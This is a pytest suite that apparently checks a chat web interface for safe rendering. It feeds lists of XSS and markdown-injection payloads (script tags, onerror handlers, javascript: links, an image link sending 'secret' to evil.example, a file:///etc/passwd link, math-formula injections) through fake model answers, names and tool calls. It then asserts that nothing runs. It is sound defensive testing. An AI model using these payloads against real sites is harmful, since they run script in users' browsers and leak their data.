"""Hostile texts in answers, reasoning, tool calls and names are shown and have no effect."""

import pytest
from browser_page import browser, keep, send, wait_done, watched  # noqa: F401
from fake_api import USAGE, chunk, faking, says

HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<object data=http://evil.example/x>",
    "<form action=http://evil.example><button>go</button></form>",
    "<video src=http://evil.example/x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    "<img src=x\nonerror=alert(1)\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "<x onclick=alert(1) style=position:fixed;inset:0>click</x>",
    "<marquee onstart=alert(1)>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](http://evil.example/steal?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/pixel.png",
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/admin/prefixes)",
    "[x](file:///etc/passwd)",
    '[x](https://good.example "onmouseover=alert(1)")',
    '[x](https://good.example" onclick="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|c|",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n  - [x](javascript:alert(1))",
    "> <svg onload=alert(1)>",
    ">" * 3000 + " deep",
    "- " * 500 + "deep",
    "[" * 2000,
    "*" * 3000 + "a",
    "\u202etxt.exe\u0000\ufffe",
]


@pytest.fixture
def fake(server):
    with faking(server.url) as made:
        yield made


def assert_harmless(page):
    found = page.evaluate("""() => {
      const bad = [];
      for (const node of document.querySelectorAll('.log *, #side *, #top *, .alternatives *')) {
        if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'IMG', 'VIDEO', 'STYLE', 'LINK', 'META', 'BASE', 'FORM', 'MATH'].includes(node.nodeName.toUpperCase())
            && !node.closest('.brand, .maths')) bad.push(node.outerHTML);
        for (const attribute of node.attributes ?? []) {
          if (/^on/i.test(attribute.name) || attribute.name === 'style' && node.closest('.markdown')) bad.push(attribute.name);
          if (['href', 'src', 'xlink:href', 'action'].includes(attribute.name) && !/^(https?:|mailto:)/.test(attribute.value)
              && !node.closest('#top')) bad.push(attribute.value);
        }
        if (node.nodeName === 'A' && node.closest('.log') && !(node.rel.includes('noopener') && node.target === '_blank')) bad.push(node.outerHTML);
      }
      return bad;
    }""")
    assert found == []


def test_answers_do_nothing_but_stand_there(fake, watched):
    page = watched.open(fake.url)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    count = 0
    texts = HTML + MARKDOWN
    for begin in range(0, len(texts), 10):
        for text in texts[begin : begin + 10]:
            fake.reply(
                chunks=says(*[text[i : i + 7] for i in range(0, len(text), 7)]) if len(text) < 200 else says(text)
            )
            send(page, text[:200])
            count += 1
            wait_done(page, count)
            assert_harmless(page)
        page.keyboard.press("Control+Shift+O")
        count = 0
    keep(page, "hostile")


def test_html_in_an_answer_is_shown_as_text(fake, watched):
    page = watched.open(fake.url)
    fake.reply(chunks=says("before <b>bold</b> <img src=x onerror=alert(1)> after"))
    send(page, "x")
    wait_done(page)
    assert page.inner_text(".message.assistant > .markdown") == "before <b>bold</b> <img src=x onerror=alert(1)> after"


def test_hostile_names_reasoning_tools_and_tokens(fake, watched):
    fake.model = "<img src=x onerror=alert(1)>"
    page = watched.open(fake.url)
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    assert page.inner_text("#model") == fake.model
    bad = "<img src=x onerror=alert(1)>"
    call = {"index": 0, "id": bad, "type": "function", "function": {"name": bad, "arguments": bad}}
    fake.reply(chunks=[chunk({"reasoning": bad}), chunk({"tool_calls": [call]}), chunk({}, "tool_calls"), USAGE])
    send(page, bad)
    wait_done(page)
    page.click(".reasoning summary")
    assert_harmless(page)
    one = chunk({"content": bad})
    one["choices"][0]["logprobs"] = {
        "content": [{"token": bad, "logprob": -1.0, "top_logprobs": [{"token": bad, "logprob": -1.0}]}]
    }
    fake.reply(chunks=[one, chunk({}, "stop"), USAGE])
    page.keyboard.press("Control+Shift+O")
    send(page, "x")
    wait_done(page)
    page.locator(".token").first.hover()
    page.wait_for_selector(".alternatives")
    assert_harmless(page)


def test_markdown_looks_as_it_should(fake, watched):
    page = watched.open(fake.url)
    text = (
        "# Title\n\nSome **bold**, *em*, ~~gone~~, `code & <x>` and [a link](https://a.example/?a=1&b=2).\n\n1. one\n2."
        ' two\n   - in\n\n```python\ndef f(x):\n    return "<b>" # c\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n> quote'
        " &amp; more\n\n- [x] done\n\n---\n\nAT&T &copy; 2 < 3"
    )
    fake.reply(chunks=says(*[text[i : i + 5] for i in range(0, len(text), 5)]))
    send(page, "x")
    wait_done(page)
    box = page.locator(".message.assistant > .markdown")
    assert box.locator("h2").inner_text() == "Title"
    assert (
        box.locator("p strong").inner_text() == "bold"
        and box.locator("p em").inner_text() == "em"
        and box.locator("del").count() == 1
    )
    assert box.locator("p code").inner_text() == "code & <x>"
    assert box.locator("a").get_attribute("href") == "https://a.example/?a=1&b=2"
    assert box.locator("ol > li").count() == 2 and box.locator("ol ul li").inner_text() == "in"
    assert box.locator("pre code").text_content() == 'def f(x):\n    return "<b>" # c'
    assert box.locator("td.to-right").inner_text() == "2"
    assert "quote & more" in box.locator("blockquote").inner_text()
    assert box.locator("p").last.inner_text() == "AT&T © 2 < 3"
    keep(page, "markdown")


def test_formulas_are_mathml_and_nothing_else(fake, watched):
    page = watched.open(fake.url)
    asked = []
    page.on("request", lambda request: asked.append(request.url.rsplit("/", 1)[-1]))
    fake.reply(chunks=says("It costs $5 and $6, or $7.", " `$x$`"))
    send(page, "x")
    wait_done(page)
    assert page.locator("math").count() == 0 and "katex.js" not in asked  # it comes with the first formula
    text = (
        "Euler: $e^{i\\pi} + 1 = 0$, \\(a_1 < b\\) and\n\n$$\\int_0^1"
        " \\frac{x}{\\sqrt{2}}\\,dx$$\n\n\\[\n\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}\n\\]\n\n$\\nosuch{x}$"
        " $\\href{javascript:alert(1)}{y}$ $\\def\\x{\\x\\x}\\x$ $\\includegraphics{http://x.example/a.png}$ $<img"
        " src=x onerror=alert(1)>$ then $("
    )
    fake.reply(chunks=says(*[text[i : i + 5] for i in range(0, len(text), 5)]))
    send(page, "x")
    wait_done(page, 2)
    box = page.locator(".message.assistant > .markdown").last
    page.wait_for_function(
        "() => document.querySelectorAll('math').length >= 4 && document.querySelectorAll('.maths.unknown').length >= 2"
    )
    assert (
        box.locator("math[display=block]").count() == 2
        and box.locator("mtable mtr").count() == 2
        and box.locator("mfrac").count() == 1
    )
    assert "\\nosuch{x}" in box.inner_text() and box.inner_text().endswith("then $(")
    assert box.locator("a, img").count() == 0
    assert_harmless(page)
    keep(page, "formulas")
